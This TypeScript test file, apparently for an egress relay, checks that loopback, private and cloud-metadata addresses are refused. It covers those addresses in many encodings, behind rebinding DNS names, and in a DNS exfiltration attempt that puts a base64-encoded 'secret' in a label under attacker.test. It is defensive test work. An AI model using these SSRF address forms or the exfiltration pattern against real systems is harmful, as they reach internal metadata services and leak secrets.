// Addresses that are not public, in every spelling, as literals and behind names.

import assert from 'node:assert/strict';

import { allowedAddress } from '../support/sentry.ts';
import { responded, get, nothingDialled, refused, type AttackTable } from '../support/attack.ts';
import { usualPolicy, type Arena } from '../support/arena.ts';

/** CONNECT to a literal: refused by the relay as malformed, or by the gateway, never dialled. */
async function literals(a: Arena, texts: readonly string[]): Promise<void> {
  for (const text of texts) {
    const [host = ''] = [text];
    const at = `${host}:${a.ports.plain}`;
    const head = await a.toRelay(`CONNECT ${at} HTTP/1.1\r\n\r\n${get(at, '/')}`, { events: 0 });
    if (head.status === 400) continue;
    a.attempts += 1;
    assert.deepEqual(head.statuses, [200, 403], `${text}: ${head.text.slice(0, 200)}`);
  }
  nothingDialled(a);
}

/** A name of a rule without `addresses` that resolves to each of these in turn. */
async function behindName(a: Arena, addresses: readonly string[]): Promise<void> {
  const at = a.at('moving.test');
  for (const address of addresses) {
    a.names.set('moving.test', { ttl: 0, addresses: [address] });
    responded(
      await a.send(at, get(at, `/${address}`), { principal: `asks-${address.replaceAll(/[:.]/g, '-')}` }),
      403,
      502,
    );
    assert.equal(a.lastEvent?.errorCode, 'address_denied', `${address}: ${JSON.stringify(a.lastEvent)}`);
  }
  nothingDialled(a);
}

const metadata = [
  '169.254.169.254',
  '169.254.170.2',
  '169.254.170.23',
  '100.100.100.200',
  '168.63.129.16',
  '192.0.0.192',
];
const metadataV6 = ['fd00:ec2::254', 'fd20:ce::254'];

export const address: AttackTable = {
  'ADDR-01': (a) =>
    literals(a, [
      '2130706433',
      '0x7f.1',
      '0177.0.0.1',
      '127.1',
      '0',
      '0xa9fea9fe',
      '127.0.0.1',
      '017700000001',
      '127.0.0.1.',
    ]),
  'ADDR-02': async (a) => {
    const forms = [
      '::ffff:169.254.169.254',
      '::ffff:a9fe:a9fe',
      '::169.254.169.254',
      '::ffff:0:169.254.169.254',
      '0:0:0:0:0:ffff:7f00:1',
    ];
    await literals(
      a,
      forms.map((form) => `[${form}]`),
    );
    await behindName(a, ['::ffff:a9fe:a9fe', '::a9fe:a9fe', '::ffff:0:a9fe:a9fe', '::ffff:7f00:1']);
  },
  'ADDR-03': async (a) => {
    const forms = [
      '64:ff9b::a9fe:a9fe',
      '64:ff9b:1::a9fe:a9fe',
      '2002:a9fe:a9fe::1',
      '2001:0:4136:e378:8000:63bf:3fff:fdd2',
      'fe80::5efe:a9fe:a9fe',
    ];
    await literals(
      a,
      forms.map((form) => `[${form}]`),
    );
    await behindName(a, forms);
  },
  'ADDR-04': async (a) => {
    await literals(a, ['0.0.0.0', '[::]', '[::0.0.0.0]', '[::ffff:0.0.0.0]']);
    await behindName(a, ['0.0.0.0', '::', '::ffff:0:0']);
  },
  'ADDR-05': {
    // The rule opens everything that can be opened.
    policy: (ports) =>
      `${usualPolicy(ports).replace(/.*name: closed.*\n/, '')}  - { name: loud, hosts: [moving.test, metadata.google.internal], ports: ${ports.tls}, addresses: [127.0.0.0/8, 10.0.0.0/8, 100.64.0.0/10, 'fc00::/7'] }\n`,
    run: async (a) => {
      await literals(a, [...metadata, ...metadataV6.map((one) => `[${one}]`), 'instance-data']);
      await behindName(a, [...metadata, ...metadataV6]);
      a.names.set('metadata.google.internal', { ttl: 0, addresses: ['169.254.169.254'] });
      const at = a.at('metadata.google.internal');
      responded(await a.send(at, get(at, '/')), 403);
    },
  },
  'ADDR-06': (a) =>
    behindName(a, [
      '10.0.0.1',
      '172.16.0.1',
      '192.168.0.1',
      '100.64.0.1',
      '192.0.0.8',
      '198.18.0.1',
      '192.0.2.1',
      '198.51.100.1',
      '240.0.0.1',
      '255.255.255.255',
      '224.0.0.1',
      '127.0.0.1',
      'fc00::1',
      'fe80::1',
      'fec0::1',
      'ff02::1',
      '2001:db8::1',
      '3fff::1',
      '100::1',
    ]),
  'ADDR-07': async (a) => {
    a.names.set('moving.test', { ttl: 0, cname: 'redis.internal', addresses: ['10.1.2.3'] });
    const at = a.at('moving.test');
    responded(await a.send(at, get(at, '/')), 403);
    assert.equal(a.lastEvent?.errorCode, 'address_denied');
    assert.match(JSON.stringify(a.lastEvent.details), /10\.1\.2\.3/);
    nothingDialled(a);
  },
  'ADDR-08': async (a) => {
    let asked = 0;
    const before = a.dns.queries.length;
    a.names.set('allowed.test', () => {
      asked += 1;
      // Two families are asked for one look-up.
      return { ttl: 0, addresses: [asked <= 2 ? allowedAddress : '127.0.0.1'] };
    });
    const at = a.at('allowed.test');
    responded(await a.send(at, get(at, '/first')), 200);
    assert.equal(a.lastEvent?.address, allowedAddress);
    const queries = a.dns.queries.slice(before).filter((query) => query.endsWith(' allowed.test'));
    assert.equal(queries.length, 2, queries.join());
    // A later dial asks again, and is judged on what comes then.
    responded(await a.send(at, get(at, '/second'), { principal: 'second' }), 403);
    assert.equal(a.lastEvent?.errorCode, 'address_denied');
  },
  'ADDR-13': async (a) => {
    const port = await a.relayPort();
    for (const host of ['127.0.0.1', '[::1]', 'localhost.localdomain']) {
      const at = `${host}:${port}`;
      const reply = await a.toRelay(`CONNECT ${at} HTTP/1.1\r\n\r\n${get(at, '/healthz')}`, { events: 1 });
      assert.deepEqual(reply.statuses, [200, 403]);
    }
    // A rule that names a host which leads back to this very machine opens nothing by itself.
    a.names.set('moving.test', { ttl: 0, addresses: ['127.0.0.1'] });
    responded(await a.send(a.at('moving.test'), get(a.at('moving.test'), '/')), 403);
    nothingDialled(a);
  },
  'ADDR-14': async (a) => {
    const before = a.dns.queries.length;
    const at = a.at('c2vjcmv0.attacker.test');
    responded(await a.send(at, get(at, '/')), 403);
    refused(
      await a.toRelay(get('c2VjcmV0.attacker.test', 'http://c2vjcmv0.attacker.test/'), { events: 1 }),
      403,
    );
    const queries = a.dns.queries.slice(before).filter((query) => query.includes('attacker'));
    assert.deepEqual(queries, []);
  },
};
